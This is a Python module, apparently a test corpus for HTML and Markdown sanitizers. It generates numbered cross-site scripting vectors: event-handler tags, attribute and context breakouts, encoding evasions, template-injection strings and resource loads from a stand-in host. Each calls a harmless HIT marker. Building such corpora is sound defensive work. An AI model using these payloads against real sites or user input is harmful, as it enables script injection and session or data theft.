"""Texts that would run a script or load something from elsewhere if any reader took them for markup.

Each calls HIT(n) with its own number, or asks for something of the host chim.example.test.
"""

from __future__ import annotations

from itertools import count, product

ELSEWHERE = "//chim.example.test"

_HANDLERS = (
    *("<img src=x onerror={}>", "<img src=x:x onerror={}//", "<img/src='x'/onerror={}>", "<image src=x onerror={}>"),
    *(
        "<svg onload={}>",
        "<svg/onload={}>",
        "<svg><script>{}</script></svg>",
        "<svg><animate onbegin={} attributeName=x>",
    ),
    *("<svg><set onbegin={} attributename=x>", "<svg><a xlink:href=javascript:{}><text y=20>x</text></a></svg>"),
    *("<svg><use href=data:image/svg+xml,{}#x>", "<svg><foreignObject><iframe srcdoc='<script>parent.{}</script>'>"),
    *("<body onload={}>", "<body onpageshow={}>", "<body onfocus={} autofocus>", "<frameset onload={}>"),
    *("<iframe src=javascript:{}>", "<iframe srcdoc='<script>parent.{}</script>'>", "<iframe onload={}>"),
    *("<object data=javascript:{}>", "<embed src=javascript:{}>", "<object onerror={} data=x>", "<applet onerror={}>"),
    *("<video src=x onerror={}>", "<audio src=x onerror={}>", "<video><source onerror={}></video>"),
    *("<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>"),
    *("<button autofocus onfocus={}>x", "<keygen autofocus onfocus={}>", "<a href=javascript:{}>x</a>"),
    *(
        "<details open ontoggle={}>",
        "<marquee onstart={}>",
        "<style onload={}></style>",
        "<link rel=stylesheet href=x onerror={}>",
    ),
    *("<script>{}</script>", "<script src=data:text/javascript,{}></script>", "<script type=module>{}</script>"),
    *(
        "<form action=javascript:{}><button autofocus>x",
        "<isindex type=image src=1 onerror={}>",
        "<math href=javascript:{}>x",
    ),
    *(
        "<div style=animation-name:x onanimationstart={}>",
        "<p style=width:expression({})>",
        "<xss onfocus={} tabindex=1 autofocus>",
    ),
    *(
        "<dialog open oncancel={}>",
        "<div popover onbeforetoggle={}>",
        "<meta http-equiv=refresh content=0;javascript:{}>",
    ),
    *("<base href=javascript:{}//>", "<table background=javascript:{}>", "<template><img src=x onerror={}></template>"),
    *("<noscript><p title='</noscript><img src=x onerror={}>'>", "<title><img src=x onerror={}></title>"),
    *("<mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>", "<plaintext onmouseover={}>"),
)
_BREAKING_OUT = (
    *(
        "'\"><img src=x onerror={}>",
        "</script><script>{}</script>",
        "</style><img src=x onerror={}>",
        "--><img src=x onerror={}>",
    ),
    *(
        "]]><img src=x onerror={}>",
        "</textarea><svg onload={}>",
        "</title><svg onload={}>",
        "</template><svg onload={}>",
    ),
    *(
        '" autofocus onfocus={} x="',
        "' autofocus onfocus={} x='",
        "` onmouseover={} x=`",
        " onload={} ",
        '"onmouseover={}//',
    ),
    *("</p></div></main><img src=x onerror={}>", "</mark></p><script>{}</script>", "</option></select><svg onload={}>"),
    *(
        "\n\n<img src=x onerror={}>\n\n",
        "\0<img src=x onerror={}>",
        "<\0script>{}</script>",
        "<img\x0csrc=x\x0conerror={}>",
    ),
    *(
        "&lt;img src=x onerror={}&gt;",
        "&#60;img src=x onerror={}&#62;",
        "%3Cimg src=x onerror={}%3E",
        "\\u003cimg src=x onerror={}\\u003e",
    ),
    *(
        "＜img src=x onerror={}＞",
        "\u2028<svg onload={}>",
        "\u202e<svg onload={}>",
        "<scr<script>ipt>{}</scr</script>ipt>",
    ),
    *(
        "<<img src=x onerror={}>",
        "<ImG sRc=x OnErRoR={}>",
        "<img src=x onerror&#61;{}>",
        "<!--><img src=x onerror={}>-->",
    ),
    *('";{};//', "';{};//", '\\";{};//', "`;{};//", "*/{}/*", "</script\t>{}"),
)
_LANGUAGES = (
    *(
        "[x](javascript:{})",
        "[x](<javascript:{}>)",
        "[x](JaVaScRiPt:{})",
        "[x](java&#x73;cript:{})",
        "[x][1]\n\n[1]: javascript:{}",
    ),
    *('![x](x"onerror={} ")', "<javascript:{}>", "[x](data:text/html,<script>{}</script>)", "[x](vbscript:{})"),
    *(
        "```html\n<img src=x onerror={}>\n```",
        "    <img src=x onerror={}>",
        "<div markdown=1><svg onload={}></div>",
        "~~~\n<svg onload={}>",
    ),
    *(
        "| a |\n|---|\n| <svg onload={}> |",
        "> <svg onload={}>",
        "# <svg onload={}>",
        "- <svg onload={}>",
        "[^1]\n\n[^1]: <svg onload={}>",
    ),
    *(
        "${{{}}}",
        "{{{{{}}}}}",
        "{{{{constructor.constructor('{}')()}}}}",
        "{{%{}%}}",
        "<%={}%>",
        "#{{{}}}",
        "{{@html {}}}",
    ),
    *("$$\\href{{javascript:{}}}{{x}}$$", "\\(\\href{{javascript:{}}}{{x}}\\)", "$\\unicode{{<svg onload={}>}}$"),
    *(
        "\\[\\includegraphics{{x}}\\]{}",
        "$$\\htmlData{{onload={}}}{{x}}$$",
        "__proto__[onload]={}",
        "javascript:{}",
        "data:text/html,{}",
    ),
)
_LOADS = (
    *(
        "<img src={}/{}>",
        "<img srcset={}/{}>",
        "<link rel=stylesheet href={}/{}>",
        "<link rel=preload as=image href={}/{}>",
    ),
    *(
        "<link rel=dns-prefetch href={}/{}>",
        "<script src={}/{}></script>",
        "<iframe src={}/{}></iframe>",
        "<embed src={}/{}>",
    ),
    *(
        "<object data={}/{}></object>",
        "<video src={}/{} autoplay>",
        "<audio src={}/{} autoplay>",
        "<video poster={}/{}>",
    ),
    *(
        "<style>@import '{}/{}'</style>",
        "<p style=background:url({}/{})>",
        "<svg><image href={}/{}></svg>",
        "<track src={}/{}>",
    ),
    *(
        "<form action={}/{}><input autofocus></form>",
        "<meta http-equiv=refresh content='0;url={}/{}'>",
        "<base href={}/{}>",
    ),
    *(
        "<input type=image src={}/{}>",
        "<table background={}/{}>",
        "<body background={}/{}>",
        "![x](http:{}/{})",
        "![x]({}/{})",
    ),
    *(
        "[![x](http:{}/{})](y)",
        "<a ping={}/{} href=#>x</a>",
        "$$\\includegraphics{{http:{}/{}}}$$",
        "<img src=http:{}/{}>",
    ),
)


def _numbered() -> tuple[str, ...]:
    numbers = count()
    acting = tuple(text.format(f"HIT({next(numbers)})") for text in (*_HANDLERS, *_BREAKING_OUT, *_LANGUAGES))
    loading = tuple(text.format(ELSEWHERE, next(numbers)) for text in _LOADS)
    quoting = tuple(
        f"{quote}{before}on{event}=HIT({next(numbers)}){behind}x={quote}"
        for quote, (before, behind), event in product(
            "'\"`", ((" ", " "), ("/", "//")), ("error", "focus", "pointerenter")
        )
    )
    return acting + loading + quoting


VECTORS = _numbered()
